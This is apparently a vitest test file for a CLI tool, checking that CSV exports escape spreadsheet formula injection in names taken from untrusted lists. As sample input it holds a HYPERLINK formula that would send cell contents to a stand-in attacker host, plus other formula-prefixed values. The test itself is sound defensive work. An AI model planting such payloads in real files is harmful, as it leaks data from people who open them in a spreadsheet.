import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { exportPeople } from "../../src/services/import/exportPeople.js";
import { readTableFile } from "../../src/services/tabular/table.js";
import { reconcileFile, reconciliationCsv } from "../../src/services/reconcile.js";
import { makePerson } from "../helpers/factories.js";
import { createTestRuntime, type TestRuntime } from "../helpers/runtime.js";

// The other side's lists are untrusted: a name such as =HYPERLINK(…) written into a CSV a coordinator opens in a
// spreadsheet would run. Every CSV the CLI writes goes through the one helper the API exports use (src/domain/csv.ts).
const dir = mkdtempSync(join(tmpdir(), "aff-formula-"));
let rt: TestRuntime;
const evil = '=HYPERLINK("http://evil.example/?"&A1;"Горинов")';

beforeAll(async () => {
  rt = await createTestRuntime();
  await makePerson(rt, { primaryName: evil, alternateNames: ["@SUM(1+1)", "-2+3"] });
});
afterAll(async () => {
  await rt.close();
  rmSync(dir, { recursive: true, force: true });
});

const cellsStartingWithFormula = (csv: string) =>
  csv
    .split(/\r?\n/)
    .flatMap((line) => line.split(","))
    .map((c) => c.replace(/^"/, ""))
    .filter((c) => /^[=+\-@\t\r]/.test(c));

describe("formula injection in CLI outputs", () => {
  it("reconcile --out: counterpart names that look like formulas are written as text", async () => {
    const input = join(dir, "их-список.csv");
    writeFileSync(input, `ФИО,дата рождения\n"${evil.replace(/"/g, '""')}",08.07.1961\n+79001234567,01.01.1990\n`);
    const r = await reconcileFile(rt.systemCtx(), { path: input });
    const csv = reconciliationCsv(r.rows);
    expect(csv).toContain("'=HYPERLINK");
    expect(cellsStartingWithFormula(csv)).toEqual([]);
  });

  it("export people --format csv: defused cells, and the import reader gives back the original text", async () => {
    const out = join(dir, "people.csv");
    await exportPeople(rt.systemCtx(), { format: "csv", out });
    const csv = readFileSync(out, "utf8");
    expect(csv).toContain("'=HYPERLINK");
    expect(cellsStartingWithFormula(csv)).toEqual([]);
    const table = await readTableFile(out);
    const rows = table.rows.map((r) => Object.fromEntries(table.headers.map((h, i) => [h, r.cells[i] ?? ""])));
    expect(rows.map((r) => r.name)).toContain(evil);
    expect(rows.find((r) => r.name === evil)?.name_alt).toMatch(/^-2\+3/);
  });
});
